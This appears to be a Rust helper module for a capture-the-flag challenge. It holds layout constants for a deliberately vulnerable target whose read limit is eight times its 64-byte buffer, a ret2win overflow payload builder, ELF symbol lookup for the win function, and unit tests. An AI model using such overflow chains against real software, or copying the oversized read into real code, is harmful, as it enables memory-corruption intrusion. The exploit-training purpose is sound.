//! Shared pieces of the chal2 target and its ret2win driver: the intake
//! layout facts, the overflow chain builder, and symbol lookup against the
//! target image.

/// Numeric facts about the target's frames and streams. The exploit, the
/// target, and the tests all read the same numbers from here.
pub mod layout {
    use std::ffi::CStr;

    /// team id line buffer, newline and NUL included
    pub const TOKEN_CAP: usize = 32;

    /// declared capacity of the intake buffer
    pub const INTAKE_CAP: usize = 64;

    /// bytes a single intake read will accept; eight times the buffer, so
    /// the tail of a long payload lands on the saved frame state
    pub const READ_LIMIT: usize = 0x200;

    /// staging buffer for the flag contents
    pub const FLAG_CAP: usize = 128;

    /// where the secret lives on the host
    pub const FLAG_PATH: &CStr = c"/flag";

    /// default distance from the start of the intake buffer to the saved
    /// return address: the buffer plus the saved base pointer
    pub const RET_OFFSET: usize = INTAKE_CAP + 8;
}

/// Overflow chain construction.
pub mod payload {
    /// `pad` filler bytes up to the saved return address, then the pivot
    /// address in little-endian.
    pub fn ret2win(pad: usize, win: u64) -> Vec<u8> {
        let mut chain = vec![b'0'; pad];
        chain.extend_from_slice(&win.to_le_bytes());
        chain
    }

    #[cfg(test)]
    mod tests {
        use super::*;
        use crate::layout;

        #[test]
        fn chain_is_filler_then_address() {
            let chain = ret2win(72, 0x40_1b3d);
            assert_eq!(chain.len(), 80);
            assert!(chain[..72].iter().all(|&b| b == b'0'));
            assert_eq!(chain[72..], 0x40_1b3du64.to_le_bytes());
        }

        #[test]
        fn default_offset_clears_the_intake_buffer() {
            assert!(layout::RET_OFFSET > layout::INTAKE_CAP);
            assert!(layout::RET_OFFSET + 8 <= layout::READ_LIMIT);
        }

        #[test]
        fn read_limit_dwarfs_the_buffer() {
            assert_eq!(layout::READ_LIMIT, 8 * layout::INTAKE_CAP);
        }
    }
}

/// Symbol lookup against a built binary.
pub mod elf {
    use std::fs;

    use anyhow::{anyhow, Context, Result};
    use object::{Object, ObjectSymbol};

    /// Address of `name` in the binary's symbol table. For the non-PIE
    /// target this is also its runtime address.
    pub fn symbol_addr(path: &str, name: &str) -> Result<u64> {
        let data = fs::read(path).with_context(|| format!("read {path}"))?;
        let image = object::File::parse(&*data).with_context(|| format!("parse {path}"))?;
        image
            .symbols()
            .find(|sym| sym.name().map_or(false, |n| n == name))
            .map(|sym| sym.address())
            .ok_or_else(|| anyhow!("no `{name}` symbol in {path}"))
    }

    #[cfg(test)]
    mod tests {
        use super::*;

        fn own_image() -> String {
            std::env::current_exe()
                .expect("current exe")
                .to_str()
                .expect("utf-8 path")
                .to_string()
        }

        #[test]
        fn finds_main_in_our_own_image() {
            let addr = symbol_addr(&own_image(), "main").expect("main symbol");
            assert_ne!(addr, 0);
        }

        #[test]
        fn missing_symbol_is_an_error() {
            assert!(symbol_addr(&own_image(), "definitely_not_here").is_err());
        }
    }
}
